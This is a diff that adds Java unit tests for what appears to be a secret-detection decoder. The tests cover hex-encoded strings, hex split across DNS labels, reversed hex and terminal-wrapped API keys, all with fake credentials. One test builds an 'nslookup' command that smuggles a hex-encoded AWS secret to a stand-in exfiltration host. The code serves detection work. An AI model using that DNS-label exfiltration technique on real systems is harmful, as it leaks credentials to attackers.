@@ -292,4 +292,53 @@ class Dec32aViewsTest {
         // a list of short words is no base64
         assertThat(codes("function\nfunction\nfunction\nresponse\n")).isEmpty();
     }
+
+    // ---- hex framings ----
+
+    private static String hexOf(String s) {
+        return java.util.HexFormat.of().formatHex(utf8(s));
+    }
+
+    @Test
+    void aBigIntegerInHexIsReadAsTheBytesOfText() {
+        assertThat(graph("ssn: 0x" + hexOf("536-01-2233 and more") + "\nnext")).contains("hex:536-01-2233 and more");
+        assertThat(graph("k = 0X" + hexOf("sk_live_0123456789abcdef").toUpperCase())).contains("hex:sk_live_0123456789abcdef");
+        // a constant, an address: no text
+        assertThat(graph("mask = 0xffffffffffffffff0000000000000000; p = 0x7ffd5a3b2c10")).isEmpty();
+    }
+
+    @Test
+    void hexInDnsLabelsIsJoined() {
+        String hex = hexOf("aws_secret_access_key=0123456789abcdefghij");
+        StringBuilder name = new StringBuilder("nslookup ");
+        for (int i = 0; i < hex.length(); i += 30) {
+            name.append(hex, i, Math.min(hex.length(), i + 30)).append('.');
+        }
+        name.append("x.exfil-cdn.net");
+        assertThat(graph(name.toString())).contains("hex:aws_secret_access_key=0123456789abcdefghij");
+        // a host name with hex-looking labels that are no text
+        assertThat(graph("deadbeefcafebabe0123456789abcdef.fedcba9876543210ffee.example.com"))
+                .noneMatch(v -> v.startsWith("hex:"));
+    }
+
+    @Test
+    void hexWrittenBackwardsIsReadForwards() {
+        String hex = new StringBuilder(hexOf("card: 4111 1111 1111 1111")).reverse().toString();
+        assertThat(graph("data " + hex + " end")).anyMatch(v -> v.startsWith("reversed:") && v.contains(hexOf("card: 4111")));
+        // a digest is no text either way
+        assertThat(graph("sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")).isEmpty();
+    }
+
+    // ---- terminal hard wrap ----
+
+    @Test
+    void aTerminalCaptureCutAtItsWidthIsJoined() {
+        String key = "sk-proj-" + "Ab3dEf6hIj9kLmNoPqRsTuVwXyZ0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+                + "0123456789abcdefghijklmnopqrstuvwxyz";
+        String capture = "$ echo $KEY\n" + key.substring(0, 80) + "\n" + key.substring(80) + "\n$ ";
+        assertThat(codes(capture)).contains("unwrapped:" + key);
+        // prose lines of 80 characters end in a blank or the next starts with one: not joined
+        String prose = "a".repeat(79) + " \n" + "b".repeat(80) + "\n  indented continuation\n";
+        assertThat(codes(prose)).noneMatch(v -> v.startsWith("unwrapped:"));
+    }
 }
